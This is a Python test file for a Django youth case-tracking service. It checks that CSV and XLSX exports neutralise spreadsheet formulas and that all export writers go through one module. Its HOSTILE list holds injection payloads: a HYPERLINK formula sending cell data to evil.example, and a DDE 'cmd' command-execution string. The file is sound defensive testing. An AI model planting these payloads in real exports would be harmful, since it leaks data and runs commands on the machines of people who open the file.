"""Exports are safe to open: a text cell that a spreadsheet would run as a formula
comes out with a leading ``'`` (OWASP's advice against CSV injection), in every CSV
and XLSX file the service writes; and every writer goes through
``youthtrack/exports.py``."""

import ast
import csv
import io
from pathlib import Path

import pytest
from django.conf import settings
from django.urls import reverse
from openpyxl import load_workbook

from tests.factories import NoteFactory
from youthtrack import exports
from youthtrack.models import Note

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
]


def rows_of(response) -> list[list[str]]:
    text = response.content.decode("utf-8").lstrip("\ufeff")
    return list(csv.reader(io.StringIO(text)))


def cells(rows) -> list[str]:
    return [cell for row in rows for cell in row]


def assert_no_formula(rows) -> None:
    dangerous = [c for c in cells(rows) if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert dangerous == []


@pytest.mark.parametrize("value", HOSTILE)
def test_neutralise_prefixes_formula_starts_only(value):
    assert exports.neutralise(value) == "'" + value
    assert exports.neutralise("Dupont") == "Dupont"
    assert exports.neutralise("O'Brien = fine") == "O'Brien = fine"
    assert exports.neutralise(-3) == -3  # a number is not a formula


def test_the_case_export_neutralises_names_and_notes(client_as, case_file, english):
    person = case_file.young_person
    person.first_name = HOSTILE[0]
    person.last_name = HOSTILE[3]
    person.save()
    for text in HOSTILE:
        NoteFactory(
            case_file=case_file,
            topic=text,
            text=text,
            visibility=Note.Visibility.ORGANISATION,
        )

    response = client_as("advisor").get(reverse("case_export", args=[case_file.pk]))

    assert response.status_code == 200
    rows = rows_of(response)
    assert_no_formula(rows)
    assert rows[1][1] == f"'{HOSTILE[0]} {HOSTILE[3]}"
    first_note = rows.index([]) + 2  # the facts, a blank line, the notes' header
    notes = {row[-1] for row in rows[first_note:]}
    assert notes == {"'" + text for text in HOSTILE}
    assert {row[2] for row in rows[first_note:]} == {"'" + text for text in HOSTILE}


def test_the_case_list_export_neutralises_names(client_as, case_file, english):
    person = case_file.young_person
    person.first_name = HOSTILE[0]
    person.last_name = HOSTILE[2]
    person.save()

    response = client_as("advisor").get(reverse("case_list_export"))

    rows = rows_of(response)
    assert_no_formula(rows)
    (line,) = [row for row in rows[1:] if row[0] == str(case_file.pk)]
    assert line[1] == "'" + HOSTILE[2]
    assert line[2] == "'" + HOSTILE[0]


def test_the_xlsx_helper_writes_text_never_formulas():
    body = exports.xlsx_bytes({"Cases": [["Name", "Age"], *[[v, -4] for v in HOSTILE]]})

    sheet = load_workbook(io.BytesIO(body)).active
    values = [(cell.value, cell.data_type) for (cell, _age) in sheet.iter_rows(2)]
    # (XML keeps a carriage return as a line feed.)
    assert values == [("'" + v.replace("\r", "\n"), "s") for v in HOSTILE]
    assert [age.value for (_cell, age) in sheet.iter_rows(2)] == [-4] * len(HOSTILE)


# --- the class: no module writes CSV or XLSX without exports.py ---

APPS = ("youthtrack", "programmes", "outcomes")
EXPORTS = Path(settings.BASE_DIR) / "youthtrack" / "exports.py"


def raw_writers(tree: ast.AST) -> list[str]:
    """The ways a module writes CSV or XLSX by itself: ``csv.writer``,
    ``csv.DictWriter``, ``from csv import writer``, anything from openpyxl but
    ``load_workbook`` alone (reading a workbook, as the import of past records does,
    writes nothing)."""
    found = []
    for node in ast.walk(tree):
        if (
            isinstance(node, ast.Attribute)
            and node.attr in ("writer", "DictWriter")
            and isinstance(node.value, ast.Name)
            and node.value.id == "csv"
        ):
            found.append(f"csv.{node.attr} (line {node.lineno})")
        elif isinstance(node, ast.ImportFrom) and node.module:
            names = {alias.name for alias in node.names}
            if node.module == "csv" and names & {"writer", "DictWriter"}:
                found.append(f"from csv import … (line {node.lineno})")
            if node.module.split(".")[0] == "openpyxl" and names != {"load_workbook"}:
                found.append(f"from {node.module} import … (line {node.lineno})")
        elif isinstance(node, ast.Import):
            for alias in node.names:
                if alias.name.split(".")[0] == "openpyxl":
                    found.append(f"import {alias.name} (line {node.lineno})")
    return found


def test_every_csv_and_xlsx_writer_goes_through_exports():
    offenders = {}
    for app in APPS:
        for path in sorted((Path(settings.BASE_DIR) / app).rglob("*.py")):
            if path == EXPORTS or "migrations" in path.parts:
                continue
            found = raw_writers(ast.parse(path.read_text(), filename=str(path)))
            if found:
                offenders[str(path.relative_to(settings.BASE_DIR))] = found
    assert offenders == {}, (
        "Write CSV and XLSX with youthtrack.exports (csv_response, csv_writer, "
        f"csv_text, xlsx_bytes), which neutralises formulas: {offenders}"
    )


def test_the_scan_finds_a_raw_writer():
    """The class test above would see a module that writes CSV by itself."""
    source = "import csv\nfrom openpyxl import Workbook\nw = csv.writer(out)\n"
    assert len(raw_writers(ast.parse(source))) == 2
    assert raw_writers(ast.parse("from openpyxl import load_workbook\n")) == []
    assert raw_writers(ast.parse("from openpyxl import Workbook, load_workbook\n"))
    assert raw_writers(ast.parse(EXPORTS.read_text()))  # exports.py itself does
